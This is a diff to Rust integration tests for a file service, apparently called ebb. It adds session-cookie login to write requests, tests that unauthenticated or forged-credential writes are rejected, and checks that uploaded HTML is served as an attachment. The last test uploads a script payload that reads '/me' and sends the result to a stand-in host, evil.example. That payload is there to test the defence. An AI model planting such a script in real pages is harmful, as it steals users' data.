@@ -17,6 +17,15 @@ fn data(len: usize) -> Vec<u8> {
     (0..len).map(|i| (i * 31 % 251) as u8).collect()
 }
 
+/// A session cookie of the built-in demo user (`name=value`).
+async fn login(client: &reqwest::Client, service: &ServiceProcess) -> String {
+    let body = serde_json::json!({"username": "demo", "password": "demo-password"});
+    let response = client.post(service.url("/login")).json(&body).send().await.expect("login");
+    assert_eq!(response.status(), StatusCode::OK, "login");
+    let cookie = response.headers()["set-cookie"].to_str().expect("ascii");
+    cookie.split(';').next().expect("name=value").to_owned()
+}
+
 async fn metric(client: &reqwest::Client, service: &ServiceProcess, prefix: &str) -> Option<f64> {
     let text = client.get(service.metrics_url()).send().await.ok()?.text().await.ok()?;
     text.lines().find_map(|line| line.strip_prefix(prefix)?.trim().parse().ok())
@@ -32,7 +41,9 @@ async fn a_file_uploaded_through_one_replica_is_served_by_another() {
     let client = reqwest::Client::new();
     let body = data(3 << 20);
 
-    let created = client.put(a.url("/files/shared/data.bin")).body(body.clone()).send().await.expect("put");
+    let cookie = login(&client, &a).await;
+    let put = client.put(a.url("/files/shared/data.bin")).header("cookie", &cookie);
+    let created = put.body(body.clone()).send().await.expect("put");
     assert_eq!(created.status(), StatusCode::CREATED);
     assert!(created.headers().contains_key("ratelimit"), "the rate limiter wraps /files");
     let meta: serde_json::Value = created.json().await.expect("json");
@@ -57,14 +68,16 @@ async fn without_s3_objects_go_to_a_local_directory_and_the_example_says_so() {
     assert!(service.log().contains("no S3 settings"), "{}", service.log());
     assert!(service.log().contains("object metadata is kept in this process"), "{}", service.log());
     let client = reqwest::Client::new();
-    let put = client.put(service.url("/files/local.txt")).body("on disk").send().await.expect("put");
-    assert_eq!(put.status(), StatusCode::CREATED);
-    assert!(dir.path().join("local.txt").is_file());
+    let cookie = login(&client, &service).await;
+    let put = client.put(service.url("/files/local.txt")).header("cookie", &cookie).body("on disk").send().await;
+    assert_eq!(put.expect("put").status(), StatusCode::CREATED);
+    assert!(dir.path().join(".ebb/v").is_dir(), "versions are kept under .ebb/v in the directory");
     assert_eq!(
         client.get(service.url("/files/local.txt")).send().await.expect("get").text().await.expect("body"),
         "on disk"
     );
-    let presign = client.post(service.url("/files/local.txt/download-url")).send().await.expect("post");
+    let presign = client.post(service.url("/files/local.txt/download-url")).header("cookie", &cookie).send().await;
+    let presign = presign.expect("post");
     assert_eq!(presign.status(), StatusCode::NOT_IMPLEMENTED);
 }
 
@@ -73,8 +86,9 @@ async fn s3_down_is_reported_by_readiness_and_answered_with_503() {
     let mut s3 = S3Server::start(&["files"]);
     let service = start(&s3.env("files"));
     let client = reqwest::Client::new();
+    let cookie = login(&client, &service).await;
     s3.stop();
-    let put = client.put(service.url("/files/x.txt")).body("x").send().await.expect("put");
+    let put = client.put(service.url("/files/x.txt")).header("cookie", &cookie).body("x").send().await.expect("put");
     assert_eq!(put.status(), StatusCode::SERVICE_UNAVAILABLE);
     let deadline = Instant::now() + Duration::from_secs(10);
     loop {
@@ -108,4 +122,59 @@ fn a_demo_username_without_a_password_is_a_start_up_error() {
         assert!(log.contains("EBB_DEMO_USERNAME") && log.contains("EBB_DEMO_PASSWORD"), "{log}");
         assert!(!log.contains("secret-password"), "the password was printed: {log}");
     }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn writes_need_an_identity_reads_do_not() {
+    let dir = TempDir::new("ebb-api-auth");
+    let secret = "files-test-secret-long-enough-0123456789abcdef";
+    let service =
+        start(&[("EBB_OFFLOAD_DIR", dir.path().display().to_string()), ("EBB_JWT_SECRET", secret.to_owned())]);
+    let client = reqwest::Client::new();
+    let url = service.url("/files/guarded.txt");
+    // No identity: every kind of write is 401, and nothing is stored.
+    let attempts = [
+        client.put(&url).body("x"),
+        client.delete(&url),
+        client.post(service.url("/files/guarded.txt/upload-url")).json(&serde_json::json!({"size": 1})),
+        client.post(service.url("/files/guarded.txt/multipart")),
+        client.put(&url).header("cookie", "ebb_session=forged").body("x"),
+        client.put(&url).bearer_auth("not.a.token").body("x"),
+    ];
+    for attempt in attempts {
+        let response = attempt.send().await.expect("request");
+        assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
+    }
+    assert_eq!(client.get(&url).send().await.expect("get").status(), StatusCode::NOT_FOUND, "nothing was stored");
+    // A session or a bearer token may write; anyone may read.
+    let cookie = login(&client, &service).await;
+    let put = client.put(&url).header("cookie", &cookie).body("by session").send().await.expect("put");
+    assert_eq!(put.status(), StatusCode::CREATED);
+    let exp = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).expect("clock").as_secs() + 60;
+    let token = ebb_session::jsonwebtoken::encode(
+        &ebb_session::jsonwebtoken::Header::new(ebb_session::jsonwebtoken::Algorithm::HS256),
+        &serde_json::json!({"sub": "grace", "exp": exp}),
+        &ebb_session::jsonwebtoken::EncodingKey::from_secret(secret.as_bytes()),
+    )
+    .expect("jwt");
+    let put = client.put(&url).bearer_auth(&token).body("by token").send().await.expect("put");
+    assert_eq!(put.status(), StatusCode::CREATED);
+    assert_eq!(client.get(&url).send().await.expect("get").text().await.expect("body"), "by token");
+    assert_eq!(client.delete(&url).bearer_auth(&token).send().await.expect("delete").status(), StatusCode::NO_CONTENT);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn uploaded_html_is_served_as_an_attachment() {
+    let dir = TempDir::new("ebb-api-html");
+    let service = start(&[("EBB_OFFLOAD_DIR", dir.path().display().to_string())]);
+    let client = reqwest::Client::new();
+    let cookie = login(&client, &service).await;
+    let url = service.url("/files/page.html");
+    let script = "<script>fetch('/me').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script>";
+    let put = client.put(&url).header("cookie", &cookie).header("content-type", "text/html").body(script);
+    assert_eq!(put.send().await.expect("put").status(), StatusCode::CREATED);
+    let got = client.get(&url).send().await.expect("get");
+    assert_eq!(got.headers()["content-type"], "application/octet-stream");
+    assert_eq!(got.headers()["content-disposition"], "attachment");
+    assert_eq!(got.headers()["x-content-type-options"], "nosniff");
 }
